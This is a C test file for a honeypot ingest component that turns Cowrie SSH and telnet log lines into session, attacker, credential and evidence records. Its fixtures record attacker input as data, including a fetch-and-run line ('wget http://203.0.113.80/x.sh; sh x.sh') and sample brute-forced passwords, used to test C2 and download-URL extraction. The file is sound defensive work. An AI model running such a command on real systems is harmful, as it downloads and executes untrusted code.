/* Lines → sessions: the worked example of the contract, the life of a session, what each kind of line means. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "base/limits.h"
#include "cowrie_example.h"
#include "ingest/assembly.h"

static Arena *arena;
static Assembly *assembly;
static const CowrieOptions cowrie = {0};

enum { GRACE_S = 30, IDLE_S = 3600 };

static void setup(void)
{
    AssemblyOptions options = {.idle_timeout_us = IDLE_S * US_PER_S, .grace_us = GRACE_S * US_PER_S};
    arena = arena_new();
    assembly = assembly_new(&options);
}

static void teardown(void)
{
    assembly_free(assembly);
    arena_free(arena);
}

TestSuite(cowrie_assembly, .init = setup, .fini = teardown, .timeout = 60);

static bool equals(Str s, const char *want)
{
    return want ? s.data && str_eq_cstr(s, want) : s.data == NULL;
}

static const char *uuid_text(const Uuid *u)
{
    char *text = arena_alloc(arena, UUID_TEXT_BYTES);
    uuid_format(text, u);
    return text;
}

static AssemblyLine feed(const char *line, bool is_new)
{
    CowrieEvent *e = arena_calloc(arena, 1, sizeof(*e));
    cr_assert_eq(cowrie_parse(arena, &cowrie, str_from(line), e), COWRIE_OK, "%s", line);
    return assembly_line(assembly, e, is_new);
}

/* An event @at_s seconds after 2026-05-10 08:00 of session @session from @ip. */
static AssemblyLine feed_from(const char *ip, const char *session, int at_s, const char *eventid, const char *members)
{
    char stamp[TIME_TEXT_BYTES];
    time_format(stamp, INT64_C(1778400000000000) + at_s * US_PER_S);
    return feed(arena_printf(arena,
                             "{\"eventid\":\"cowrie.%s\",\"session\":\"%s\",\"src_ip\":\"%s\",\"sensor\":\"edge-01\","
                             "\"protocol\":\"ssh\",\"timestamp\":\"%s\"%s%s}",
                             eventid, session, ip, stamp, *members ? "," : "", members),
                true);
}

static AssemblyLine say(const char *session, int at_s, const char *eventid, const char *members)
{
    return feed_from("198.51.100.23", session, at_s, eventid, members);
}

static const Effects *effects(void)
{
    return assembly_effects(assembly);
}

static bool has_evidence(const Effects *fx, const char *kind, const char *value)
{
    for (size_t i = 0; i < fx->evidence.n; i++)
        if (strcmp(fx->evidence.items[i].kind, kind) == 0 && equals(fx->evidence.items[i].value, value))
            return true;
    return false;
}

static void feed_example(void)
{
    for (size_t i = 0; i < ARRAY_SIZE(example_lines); i++)
        (void)feed(example_lines[i], true);
}

/* --- the worked example --- */

Test(cowrie_assembly, example_session)
{
    feed_example();
    cr_assert_not(assembly_flush(assembly, 100));
    const Effects *fx = effects();
    cr_assert_eq(fx->sessions.n, 1);
    const SessionRow *r = &fx->sessions.items[0];

    cr_assert_str_eq(uuid_text(&r->sid), "8b5b4643-10c2-54f9-9f3e-a31e49d18554");
    cr_assert_str_eq(r->src_ip, "198.51.100.23");
    cr_assert_str_eq(r->service, "ssh");
    cr_assert(equals(r->sensor, "edge-01") && equals(r->session, "c3f1a9e07b42") && equals(r->decky, "edge-01"));
    cr_assert(r->src_port == 51514 && r->login_attempts == 2 && r->login_ok && equals(r->username, "root"));
    cr_assert(r->commands == 2 && r->artifacts == 1 && r->forwards == 0);
    cr_assert_eq(r->started_at_us, 1778401501004512);
    cr_assert_eq(r->ended_at_us, 1778401650125000);
    cr_assert_eq(r->login_at_us, 1778401507520300);
    cr_assert_eq(r->duration_s, 149.12);
    cr_assert_str_eq(r->ended_reason, "closed");
    cr_assert(equals(r->client_version, "SSH-2.0-libssh_0.11.1"));
    cr_assert(equals(r->hassh, "3c22e3bfc2b8b121088e0bc23a380321"));
    cr_assert(r->parts_sent == 1 && r->commands_sent == 2 && !r->pending);
    cr_assert(str_starts(r->shard_path, "var/lib/cowrie/tty/625d121d"));
}

Test(cowrie_assembly, example_attacker_credentials_bounties_evidence)
{
    feed_example();
    (void)assembly_flush(assembly, 100);
    const Effects *fx = effects();
    cr_assert_eq(fx->attackers.n, 1);
    const AttackerDelta *a = &fx->attackers.items[0];

    cr_assert(a->events == 11 && a->first_us == 1778401501004512 && a->last_us == 1778401650125000);
    cr_assert(a->n_services == 1 && strcmp(a->services[0], "ssh") == 0);
    cr_assert(a->n_deckies == 1 && equals(a->deckies[0], "edge-01"));
    cr_assert(a->observed_us == 1778401501004512 && equals(a->observed_type, "connect"));
    cr_assert(equals(a->observed_decky, "edge-01") && strcmp(a->observed_service, "ssh") == 0);

    cr_assert_eq(fx->credentials.n, 2);
    cr_assert_eq(fx->attempts.n, 2);
    const CredentialDelta *c = fx->credentials.items;
    cr_assert(equals(c[0].principal, "root") && equals(c[0].printable, "admin") && c[0].outcome == OUTCOME_FAILURE);
    cr_assert(equals(c[1].printable, "P@ssw0rd123") && c[1].outcome == OUTCOME_SUCCESS && c[1].attempts == 1);
    cr_assert_str_eq(c[1].sha256, "231ecc7d178da5f22983bc579599396d6c139a457987ae1ee0026d88432d6a72");

    cr_assert_eq(fx->bounties.n, 2);
    cr_assert(equals(fx->bounties.items[0].fingerprint_type, "hassh_client"));
    cr_assert_str_eq(fx->bounties.items[1].type, "artifact");
    cr_assert(equals(fx->bounties.items[1].payload,
                     "{\"kind\":\"file\",\"stored_as\":"
                     "\"04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3\",\"sha256\":"
                     "\"04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3\",\"size\":null,"
                     "\"orig_path\":\"/tmp/x.sh\",\"url\":\"http://203.0.113.80/x.sh\",\"direction\":\"download\","
                     "\"attribution\":\"cowrie\"}"));

    cr_assert_eq(fx->evidence.n, 5);
    cr_assert(has_evidence(fx, "hassh_client", "3c22e3bfc2b8b121088e0bc23a380321"));
    cr_assert(has_evidence(fx, "ssh_banner", "SSH-2.0-libssh_0.11.1"));
    cr_assert(has_evidence(fx, "payload_sha256", "04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3"));
    cr_assert(has_evidence(fx, "c2", "203.0.113.80:80"));
    cr_assert(has_evidence(fx, "download_url", "http://203.0.113.80/x.sh"));
}

Test(cowrie_assembly, example_event_and_commands)
{
    static const char want[] =
        "{\"event_id\":\"4586efd8-a896-51fb-99d3-488b5dfab989\",\"occurred_at\":\"2026-05-10T08:27:30.125000Z\","
        "\"schema_version\":\"1\",\"session_id\":\"8b5b4643-10c2-54f9-9f3e-a31e49d18554\",\"attacker_uuid\":"
        "\"06e4f37a-f800-50bf-849b-6078a7853431\",\"attacker_ip\":\"198.51.100.23\",\"decky_id\":\"edge-01\",\"service\":"
        "\"ssh\",\"ended_at\":\"2026-05-10T08:27:30.125000Z\",\"duration_s\":149.12,\"commands\":["
        "{\"id\":\"8b5b4643-10c2-54f9-9f3e-a31e49d18554#0\",\"command_text\":\"uname -a\",\"ts\":"
        "\"2026-05-10T08:25:12.301000Z\",\"decky\":\"edge-01\",\"service\":\"ssh\",\"user\":\"root\",\"src\":"
        "\"198.51.100.23\",\"errored\":false},"
        "{\"id\":\"8b5b4643-10c2-54f9-9f3e-a31e49d18554#1\",\"command_text\":"
        "\"cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh\",\"ts\":\"2026-05-10T08:25:40.917000Z\",\"decky\":"
        "\"edge-01\",\"service\":\"ssh\",\"user\":\"root\",\"src\":\"198.51.100.23\",\"errored\":false}],"
        "\"shard_path\":\"var/lib/cowrie/tty/625d121d6b18dee1a8d67b391bb3bf03e8789ac32972e1fbcefae133357460bb\","
        "\"schema\":\"cowrie/1\",\"protocol\":\"ssh\",\"started_at\":\"2026-05-10T08:25:01.004512Z\",\"ended_reason\":"
        "\"closed\",\"src_port\":51514,\"login\":{\"username\":\"root\",\"outcome\":\"success\",\"attempts\":2,\"at\":"
        "\"2026-05-10T08:25:07.520300Z\"},\"client\":{\"version\":\"SSH-2.0-libssh_0.11.1\",\"hassh\":"
        "\"3c22e3bfc2b8b121088e0bc23a380321\"},\"artifacts\":[{\"sha256\":"
        "\"04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3\",\"url\":\"http://203.0.113.80/x.sh\","
        "\"orig_path\":\"/tmp/x.sh\"}],\"request_count\":0}";
    Uuid attacker = uuid_v5(&UUID_NS_ATTACKER, STR("198.51.100.23"));
    cleanup(buf_free) Buf out = {0};
    EventCommand commands[2];
    SessionEnded e;

    feed_example();
    (void)assembly_flush(assembly, 100);
    const Effects *fx = effects();
    cr_assert(fx->announcements.n == 1 && fx->commands.n == 2);
    const Announcement *a = &fx->announcements.items[0];
    cr_assert(a->part == 1 && a->parts == 1 && a->from == 0 && a->to == 2);
    session_row_event(arena, a->row, &attacker, &e);
    for (size_t i = 0; i < 2; i++) {
        const NewCommand *c = &fx->commands.items[i];
        cr_assert_str_eq(uuid_text(&c->source_event_id), example_log_ids[6 + i]);
        commands[i] = session_row_command(arena, a->row, c->ordinal, c->time_us, c->text, false);
    }
    e.commands = commands;
    e.n_commands = 2;
    Uuid id = session_ended_id(e.session_id, a->part);
    session_ended_encode(&e, &id, &out);
    cr_assert_str_eq(out.data, want);
}

Test(cowrie_assembly, example_session_recorded_row)
{
    feed_example();
    (void)assembly_flush(assembly, 100);
    const Effects *fx = effects();
    Uuid want = uuid_v5(&UUID_NS_LOG, STR("session_recorded|8b5b4643-10c2-54f9-9f3e-a31e49d18554|1"));

    cr_assert_eq(fx->logs.n, 1);
    cr_assert_eq(uuid_cmp(&fx->logs.items[0].id, &want), 0);
    cr_assert_eq(fx->logs.items[0].time_us, 1778401650125000);
    cr_assert(equals(fx->logs.items[0].fields,
                     "{\"sid\":\"8b5b4643-10c2-54f9-9f3e-a31e49d18554\",\"service\":\"ssh\","
                     "\"duration_s\":\"149.120\",\"bytes\":\"1834\",\"truncated\":\"false\"}"));
}

/* --- the life of a session --- */

Test(cowrie_assembly, announcement_waits_for_the_grace_and_takes_late_lines_along)
{
    say("a", 0, "session.connect", "");
    say("a", 1, "command.input", "\"input\":\"id\"");
    say("a", 2, "session.closed", "\"duration_ms\":2000");
    say("b", 2 + GRACE_S - 1, "session.connect", "");
    cr_assert_eq(effects()->announcements.n, 0, "a second too early");
    say("a", 2 + GRACE_S - 1, "command.input", "\"input\":\"late\",\"late\":true");
    say("b", 2 + GRACE_S, "client.size", "");
    const Effects *fx = effects();
    cr_assert_eq(fx->announcements.n, 1);
    cr_assert(fx->announcements.items[0].to == 2 && fx->announcements.items[0].row->ended_at_us == 1778400002000000);
    cr_assert_eq(fx->announcements.items[0].row->duration_s, 2.0);
    cr_assert_eq(assembly_counters(assembly).sessions_reopened, 0);
}

Test(cowrie_assembly, only_sessions_in_which_something_happened_are_announced)
{
    static const struct {
        const char *eventid, *members;
        bool want;
    } rows[] = {
        {"login.failed", "\"username\":\"a\",\"password\":\"b\"", false},
        {"command.input", "\"input\":\" \"", false},
        {"command.input", "\"input\":\"x\",\"realm\":\"passwd\"", false},
        {"command.success", "\"input\":\"id\"", false},
        {"session.file_download.failed", "\"url\":\"http://203.0.113.80/x\"", false},
        {"direct-tcpip.data", "\"data\":\"x\"", false},
        {"login.success", "\"username\":\"a\",\"password\":\"b\"", true},
        {"command.input", "\"input\":\"id\"", true},
        {"session.file_upload", "\"shasum\":\"04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3\"",
         true},
        {"direct-tcpip.request", "\"dst_ip\":\"192.0.2.9\"", true},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        const char *session = arena_printf(arena, "s%zu", i);
        say(session, 0, rows[i].eventid, rows[i].members);
        (void)assembly_flush(assembly, 100);
        cr_assert_eq(effects()->announcements.n, rows[i].want, "%s %s", rows[i].eventid, rows[i].members);
        cr_assert_eq(effects()->sessions.n, 1);
        cr_assert_not_null(effects()->sessions.items[0].ended_reason);
        assembly_forget_effects(assembly);
    }
    AssemblyOptions all = {.announce_all = true};
    assembly_free(assembly);
    assembly = assembly_new(&all);
    say("quiet", 0, "session.connect", "");
    (void)assembly_flush(assembly, 100);
    cr_assert_eq(effects()->announcements.n, 1);
}

Test(cowrie_assembly, silent_sessions_end_by_event_time_before_the_line_that_shows_it)
{
    say("a", 0, "command.input", "\"input\":\"one\"");
    say("a", IDLE_S - 1, "client.size", "");
    cr_assert_eq(effects()->announcements.n, 0);
    say("a", 2 * IDLE_S - 1, "command.input", "\"input\":\"two\""); /* exactly the time-out after the last line */
    const Effects *fx = effects();
    cr_assert_eq(fx->announcements.n, 1);
    cr_assert_str_eq(fx->announcements.items[0].row->ended_reason, "idle");
    cr_assert_eq(fx->announcements.items[0].row->ended_at_us, 1778400000000000 + (IDLE_S - 1) * US_PER_S);
    cr_assert_eq(fx->announcements.items[0].to, 1);
    cr_assert_eq(assembly_counters(assembly).sessions_reopened, 1);
    cr_assert_eq(fx->sessions.n, 1);
    cr_assert_eq(fx->sessions.items[0].ended_at_us, TIME_NONE, "open again");
}

Test(cowrie_assembly, reopened_session_announces_a_second_part_with_the_new_commands)
{
    say("a", 0, "command.input", "\"input\":\"one\"");
    say("a", 1, "command.input", "\"input\":\"two\"");
    say("a", 2, "session.closed", "");
    say("b", 100, "session.connect", "");
    assembly_forget_effects(assembly); /* the session left memory */
    SessionRow row = {.src_port = -1,
                      .sensor = STR("edge-01"),
                      .session = STR("a"),
                      .decky = STR("edge-01"),
                      .service = "ssh",
                      .started_at_us = 1778400000000000,
                      .last_event_at_us = 1778400002000000,
                      .ended_at_us = 1778400002000000,
                      .ended_reason = "closed",
                      .duration_s = 2,
                      .commands = 2,
                      .parts_sent = 1,
                      .commands_sent = 2,
                      .login_at_us = TIME_NONE};
    row.sid = cowrie_session_id(row.sensor, "198.51.100.23", row.session);
    strcpy(row.src_ip, "198.51.100.23");
    assembly_restore(assembly, &row);
    cr_assert_eq(say("a", 200, "command.input", "\"input\":\"three\"").ordinal, 2);
    cr_assert_eq(say("a", 201, "command.input", "\"input\":\"four\"").ordinal, 3);
    say("a", 210, "session.closed", "");
    (void)assembly_flush(assembly, 100);
    const Effects *fx = effects();
    cr_assert_eq(fx->announcements.n, 1);
    const Announcement *a = &fx->announcements.items[0];
    cr_assert(a->part == 2 && a->parts == 2 && a->from == 2 && a->to == 4 && a->row->commands == 4);
    cr_assert_eq(fx->logs.n, 1);
    Uuid want = uuid_v5(&UUID_NS_LOG, str_from(arena_printf(arena, "session_recorded|%s|2", uuid_text(&row.sid))));
    cr_assert_eq(uuid_cmp(&fx->logs.items[0].id, &want), 0);
}

Test(cowrie_assembly, close_after_an_idle_end_corrects_the_row_and_announces_nothing)
{
    say("a", 0, "command.input", "\"input\":\"one\"");
    say("a", 5000, "session.closed", "\"duration\":5000.5");
    (void)assembly_flush(assembly, 100);
    const Effects *fx = effects();
    cr_assert_eq(fx->announcements.n, 1);
    cr_assert_str_eq(fx->announcements.items[0].row->ended_reason, "idle");
    cr_assert_eq(fx->sessions.n, 1);
    cr_assert_str_eq(fx->sessions.items[0].ended_reason, "closed");
    cr_assert_eq(fx->sessions.items[0].duration_s, 5000.5);
}

Test(cowrie_assembly, flush_goes_by_end_time_in_pieces)
{
    for (int i = 0; i < 5; i++)
        say(arena_printf(arena, "s%d", i), 100 - i, "command.input", "\"input\":\"id\"");
    int n = 0;
    int64_t last_us = 0;
    bool more = true;
    while (more) {
        more = assembly_flush(assembly, 2);
        const Effects *fx = effects();
        for (size_t i = 0; i < fx->announcements.n; i++, n++) {
            const SessionRow *r = fx->announcements.items[i].row;
            cr_assert_geq(r->ended_at_us, last_us);
            cr_assert_str_eq(r->ended_reason, "eof");
            last_us = r->ended_at_us;
        }
        cr_assert_leq(fx->announcements.n, 2);
        assembly_forget_effects(assembly);
    }
    cr_assert_eq(n, 5);
    cr_assert_eq(assembly_open_sessions(assembly), 0);
    cr_assert_not(assembly_flush(assembly, 2));
}

Test(cowrie_assembly, what_is_due_together_goes_by_due_time_and_then_by_sid)
{
    for (int i = 0; i < 12; i++) {
        const char *session = arena_printf(arena, "s%d", i);
        say(session, 0, "command.input", "\"input\":\"id\"");
        say(session, i < 6 ? 5 : 4, "session.closed", "");
    }
    say("later", 1000, "session.connect", "");
    const Effects *fx = effects();
    cr_assert_eq(fx->announcements.n, 12);
    for (size_t i = 1; i < fx->announcements.n; i++) {
        const SessionRow *before = fx->announcements.items[i - 1].row, *row = fx->announcements.items[i].row;
        cr_assert_leq(before->ended_at_us, row->ended_at_us);
        cr_assert(before->ended_at_us < row->ended_at_us || uuid_cmp(&before->sid, &row->sid) < 0);
    }
}

Test(cowrie_assembly, full_memory_ends_the_session_that_is_silent_the_longest)
{
    AssemblyOptions options = {.grace_us = GRACE_S * US_PER_S, .max_sessions = 3};
    assembly_free(assembly);
    assembly = assembly_new(&options);
    for (int i = 0; i < 3; i++)
        say(arena_printf(arena, "s%d", i), i, "command.input", "\"input\":\"id\"");
    say("s0", 4, "command.input", "\"input\":\"still here\"");
    say("s3", 5, "session.connect", "");
    const Effects *fx = effects();
    cr_assert_eq(fx->announcements.n, 1);
    cr_assert(equals(fx->announcements.items[0].row->session, "s1"));
    cr_assert_str_eq(fx->announcements.items[0].row->ended_reason, "idle");
    cr_assert_eq(assembly_counters(assembly).sessions_evicted, 1);
    cr_assert_eq(assembly_open_sessions(assembly), 3);
}

Test(cowrie_assembly, stored_lines_change_nothing_but_finish_what_was_interrupted)
{
    SessionRow row = {.src_ip = "198.51.100.23",
                      .src_port = -1,
                      .sensor = STR("edge-01"),
                      .session = STR("c3f1a9e07b42"),
                      .decky = STR("edge-01"),
                      .service = "ssh",
                      .started_at_us = 1778401501004512,
                      .last_event_at_us = 1778401650125000,
                      .ended_at_us = 1778401650125000,
                      .ended_reason = "closed",
                      .duration_s = 149.12,
                      .commands = 2,
                      .pending = true,
                      .login_at_us = TIME_NONE};
    row.sid = cowrie_session_id(row.sensor, "198.51.100.23", row.session);

    assembly_restore(assembly, &row);
    for (size_t i = 0; i < ARRAY_SIZE(example_lines); i++) {
        AssemblyLine line = feed(example_lines[i], false);
        cr_assert_eq(line.ordinal, -1);
        cr_assert_eq(uuid_cmp(&line.sid, &row.sid), 0);
    }
    const Effects *fx = effects();
    cr_assert_eq(
        fx->sessions.n + fx->attackers.n + fx->commands.n + fx->credentials.n + fx->bounties.n + fx->evidence.n, 0);
    (void)assembly_flush(assembly, 100);
    cr_assert_eq(effects()->announcements.n, 1);
    cr_assert_eq(assembly_counters(assembly).lines_duplicate, 11);
    assembly_forget_effects(assembly);
    cr_assert_eq(assembly_open_sessions(assembly), 0);
}

/* --- what lines mean --- */

Test(cowrie_assembly, telnet_peer_stays_the_attacker_and_the_url_is_only_evidence)
{
    AssemblyLine line =
        feed("{\"eventid\":\"cowrie.command.input\",\"session\":\"t\",\"src_ip\":\"198.51.100.99\","
             "\"sensor\":\"x\",\"protocol\":\"telnet\",\"timestamp\":\"2026-05-10T08:00:00Z\",\"input\":"
             "\"wget http://203.0.113.80/x\"}",
             true);
    const Effects *fx = effects();

    cr_assert_str_eq(line.ip, "198.51.100.99");
    cr_assert_str_eq(line.service, "telnet");
    cr_assert_eq(fx->attackers.n, 1);
    cr_assert_str_eq(fx->attackers.items[0].ip, "198.51.100.99");
    cr_assert(has_evidence(fx, "c2", "203.0.113.80:80") && has_evidence(fx, "download_url", "http://203.0.113.80/x"));
}

Test(cowrie_assembly, address_of_the_session_wins_over_the_lines)
{
    say("a", 0, "session.connect", "\"src_port\":51514,\"dst_ip\":\"192.0.2.10\"");
    AssemblyLine line = feed_from("203.0.113.5", "a", 1, "command.input", "\"input\":\"curl http://192.0.2.10/self\"");
    const Effects *fx = effects();

    cr_assert_str_eq(line.ip, "198.51.100.23");
    cr_assert_eq(assembly_counters(assembly).ip_mismatch, 1);
    cr_assert(fx->sessions.n == 1 && fx->attackers.n == 1 && fx->attackers.items[0].events == 2);
    cr_assert_eq(fx->evidence.n, 0, "the sensor's own address");
}

Test(cowrie_assembly, ports_claimed_in_forward_requests_are_not_the_sessions)
{
    say("a", 0, "session.connect", "\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222");
    say("a", 1, "direct-tcpip.request", "\"src_port\":22,\"dst_ip\":\"203.0.113.77\",\"dst_port\":443");
    cr_assert_eq(effects()->sessions.items[0].src_port, 51514);
    cr_assert_eq(effects()->sessions.items[0].forwards, 1);
    cr_assert_eq(effects()->evidence.n, 0, "a proxy's target is nobody's server");
    say("b", 1, "direct-tcpip.request", "\"src_port\":22");
    cr_assert_eq(effects()->sessions.n, 2);
    for (size_t i = 0; i < 2; i++)
        if (equals(effects()->sessions.items[i].session, "b"))
            cr_assert_eq(effects()->sessions.items[i].src_port, -1);
}

Test(cowrie_assembly, service_of_a_line_without_protocol_is_its_sessions)
{
    AssemblyLine line = feed("{\"eventid\":\"cowrie.session.connect\",\"session\":\"t\",\"src_ip\":\"198.51.100.9\","
                             "\"timestamp\":\"2019-05-10T08:00:00Z\",\"protocol\":\"telnet\"}",
                             true);
    cr_assert_str_eq(line.service, "telnet");
    line = feed("{\"eventid\":\"cowrie.login.failed\",\"session\":\"t\",\"src_ip\":\"198.51.100.9\",\"timestamp\":"
                "\"2019-05-10T08:00:01Z\",\"username\":\"u\",\"password\":\"p\"}",
                true);
    cr_assert_str_eq(line.service, "telnet");
    cr_assert_str_eq(effects()->credentials.items[0].service, "telnet");
}

Test(cowrie_assembly, failed_commands_mark_the_newest_unannounced_commands)
{
    say("a", 0, "command.failed", "\"input\":\"before any\"");
    cr_assert_eq(effects()->errored.n, 0);
    say("a", 1, "command.input", "\"input\":\"foo; bar\"");
    say("a", 2, "command.failed", "\"input\":\"bar \"");
    for (int i = 0; i < 20; i++)
        say("a", 3, "command.input", "\"input\":\"id\"");
    say("a", 4, "command.failed", "\"input\":\"id\"");
    const Effects *fx = effects();
    cr_assert_eq(fx->errored.n, 2);
    cr_assert(fx->errored.items[0].from == 0 && fx->errored.items[0].to == 1 &&
              equals(fx->errored.items[0].text, "bar"));
    cr_assert(fx->errored.items[1].from == 21 - LIMIT_SESSION_LOOKBACK && fx->errored.items[1].to == 21);
}

Test(cowrie_assembly, credentials_fold_and_the_latest_outcome_stays)
{
    say("a", 5, "login.failed", "\"username\":\"root\",\"password\":\"x\"");
    say("a", 6, "login.success", "\"username\":\"root\",\"password\":\"x\"");
    say("a", 6, "login.failed", "\"username\":\"root\",\"password\":\"x\""); /* a tie goes to success */
    say("a", 1, "login.failed", "\"username\":\"root\",\"password\":\"x\"");
    say("a", 7, "login.failed", "\"username\":\"\",\"password\":\"x\"");
    const Effects *fx = effects();
    cr_assert_eq(fx->credentials.n, 2);
    const CredentialDelta *d = &fx->credentials.items[0];
    cr_assert(d->attempts == 4 && d->outcome == OUTCOME_SUCCESS);
    cr_assert(d->first_us == 1778400001000000 && d->last_us == 1778400006000000);
    cr_assert(equals(fx->credentials.items[1].principal, NULL));
    cr_assert_eq(fx->attempts.n, 5);
    cr_assert(fx->attempts.items[2].nth == 3 && fx->attempts.items[2].outcome == OUTCOME_FAILURE);
    cr_assert_eq(effects()->sessions.items[0].login_attempts, 5);
}

Test(cowrie_assembly, key_is_counted_when_offered_and_its_login_only_tells_the_outcome)
{
    static const char key[] = "\"username\":\"git\",\"fingerprint\":\"aa:bb\",\"key\":\"ssh-rsa AAAAC3NzaC1l\"";
    static const char other[] = "\"username\":\"git\",\"fingerprint\":\"cc:dd\",\"key\":\"ssh-rsa AAAAC3NzaC1m\"";

    say("a", 0, "client.fingerprint", key);
    say("a", 1, "login.success", key);
    say("a", 2, "login.failed", other);                   /* nobody announced this one */
    say("a", 3, "login.success", "\"username\":\"git\""); /* none authentication */
    const Effects *fx = effects();
    cr_assert(fx->credentials.n == 2 && fx->attempts.n == 2);
    cr_assert(fx->credentials.items[0].attempts == 1 && fx->credentials.items[0].outcome == OUTCOME_SUCCESS);
    cr_assert_str_eq(fx->credentials.items[0].kind, "ssh_publickey");
    cr_assert(fx->credentials.items[1].attempts == 1 && fx->credentials.items[1].outcome == OUTCOME_FAILURE);
    cr_assert_eq(fx->sessions.items[0].n_keys, 1);
    cr_assert(fx->evidence.n == 2 && strcmp(fx->evidence.items[0].kind, "ssh_pubkey") == 0);
}

Test(cowrie_assembly, empty_file_is_an_artifact_but_no_evidence)
{
    static const char empty[] = "\"shasum\":\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"";

    for (int i = 0; i < 3; i++)
        say("a", i, "session.file_upload", empty);
    const Effects *fx = effects();
    cr_assert(fx->bounties.n == 1 && fx->evidence.n == 0);
    cr_assert(fx->sessions.items[0].artifacts == 3 && fx->sessions.items[0].n_artifact_list == 1);
}

Test(cowrie_assembly, artifact_list_is_bounded_by_number_and_by_bytes)
{
    char sha[65], *url = arena_calloc(arena, 1, 1001);

    memset(url, 'u', 1000);
    for (int i = 0; i < 300; i++) {
        sha256_hex(sha, str_from(arena_printf(arena, "%d", i)));
        say("a", i, "session.file_download", arena_printf(arena, "\"shasum\":\"%s\"", sha));
        say("b", i, "session.file_download", arena_printf(arena, "\"shasum\":\"%s\",\"url\":\"%s\"", sha, url));
    }
    cr_assert_eq(effects()->sessions.n, 2);
    for (size_t i = 0; i < 2; i++) {
        const SessionRow *r = &effects()->sessions.items[i];
        cr_assert_eq(r->artifacts, 300);
        cr_assert_leq(r->n_artifact_list, equals(r->session, "a") ? (size_t)LIMIT_SESSION_ARTIFACTS : 10);
        cr_assert_gt(r->n_artifact_list, 5);
    }
    cr_assert_gt(assembly_counters(assembly).artifacts_dropped, 400);
}

Test(cowrie_assembly, tunnelled_fingerprints_are_marked_as_forwarded)
{
    say("a", 0, "direct-tcpip.ja4h", "\"ja4h\":\"ge11nn\"");
    say("a", 1, "direct-tcpip.ja4h", "\"ja4h\":\"ge11nn\"");
    const Effects *fx = effects();

    cr_assert_eq(fx->bounties.n, 1);
    cr_assert(equals(fx->bounties.items[0].payload, "{\"fingerprint_type\":\"ja4h_forwarded\",\"hash\":\"ge11nn\"}"));
    cr_assert(fx->evidence.n == 1 && fx->evidence.items[0].seen == 2 && has_evidence(fx, "ja4h_forwarded", "ge11nn"));
}

/* --- events that would become too large --- */

static size_t event_bytes(const Announcement *a, const Effects *fx)
{
    cleanup(arena_freep) Arena *scratch = arena_new();
    cleanup(buf_free) Buf out = {0};
    Uuid uuid = uuid_v5(&UUID_NS_ATTACKER, str_from(a->row->src_ip));
    EventCommand *commands = arena_calloc(scratch, (size_t)(a->to - a->from), sizeof(*commands));
    SessionEnded e;

    session_row_event(scratch, a->row, &uuid, &e);
    for (size_t i = 0; i < fx->commands.n; i++) {
        const NewCommand *c = &fx->commands.items[i];
        if (uuid_cmp(&c->sid, &a->row->sid) == 0 && c->ordinal >= a->from && c->ordinal < a->to)
            commands[e.n_commands++] = session_row_command(scratch, a->row, c->ordinal, c->time_us, c->text, true);
    }
    cr_assert_eq((int64_t)e.n_commands, a->to - a->from);
    e.commands = commands;
    e.part = a->part;
    e.parts = a->parts;
    session_ended_encode(&e, &uuid, &out);
    return out.len;
}

Test(cowrie_assembly, large_sessions_are_split_into_parts_that_fit)
{
    cleanup(buf_free) Buf text = {0};

    buf_add(&text, "\"input\":\"");
    for (int i = 0; i < 60000; i++) /* six bytes each when written: two such commands nearly fill an event */
        buf_add(&text, "\\u0001");
    buf_add(&text, "\\\"\\\\\xc3\xbc");
    buf_add(&text, "\"");
    say("big", 0, "login.success", "\"username\":\"\\u0001\\u0002\",\"password\":\"\"");
    for (int i = 0; i < 21; i++)
        say("big", i, "command.input", text.data);
    for (int i = 0; i < 12000; i++)
        say("long", 61, "command.input", "\"input\":\"w\"");
    (void)assembly_flush(assembly, 10);
    const Effects *fx = effects();
    int64_t to = 0;
    int last_part = 0;
    for (size_t i = 0; i < fx->announcements.n; i++) {
        const Announcement *a = &fx->announcements.items[i];
        if (!equals(a->row->session, "big"))
            continue;
        cr_assert(a->from == to && a->part == ++last_part && a->parts == fx->announcements.items[0].parts);
        to = a->to;
        cr_assert_leq(event_bytes(a, fx), LIMIT_EVENT_BYTES);
    }
    cr_assert_eq(to, 21);
    cr_assert_eq(last_part, 11, "and no more parts than needed");
    to = 0;
    for (size_t i = 0; i < fx->announcements.n; i++) {
        const Announcement *a = &fx->announcements.items[i];
        if (equals(a->row->session, "long")) {
            cr_assert_leq(a->to - a->from, LIMIT_PART_COMMANDS);
            to = a->to;
        }
    }
    cr_assert_eq(to, 12000);
    cr_assert_eq(assembly_counters(assembly).sessions_announced, 2);
}

Test(cowrie_assembly, state_column_survives_a_round_trip)
{
    SessionArtifact artifacts[] = {
        {.sha256 = "04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3",
         .url = STR("http://203.0.113.80/\"x")},
        {.sha256 = "14743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3", .orig_path = STR("/tmp/x")}};
    Str keys[] = {STR("aa:bb"), STR("cc")};
    SessionRow row = {.pending = true,
                      .login_at_us = 1778401507520300,
                      .tty_bytes = 7,
                      .sensor_address = STR("192.0.2.10"),
                      .artifact_list = artifacts,
                      .n_artifact_list = 2,
                      .keys = keys,
                      .n_keys = 2},
               back = {0};
    static const char *const bad[] = {"", "[]", "x",
                                      "{\"artifacts\":7,\"keys\":{},\"login_at\":1,\"pending\":\"yes\"}"};

    cr_assert(session_state_decode(arena, session_state_encode(arena, &row), &back));
    cr_assert(back.pending && back.login_at_us == row.login_at_us && back.tty_bytes == 7);
    cr_assert(equals(back.sensor_address, "192.0.2.10") && back.n_artifact_list == 2 && back.n_keys == 2);
    cr_assert_str_eq(back.artifact_list[1].sha256, artifacts[1].sha256);
    cr_assert(equals(back.artifact_list[0].url, "http://203.0.113.80/\"x") &&
              equals(back.artifact_list[0].orig_path, NULL));
    cr_assert(equals(back.keys[1], "cc"));
    row = (SessionRow){.login_at_us = TIME_NONE};
    cr_assert(equals(session_state_encode(arena, &row), "{}"));
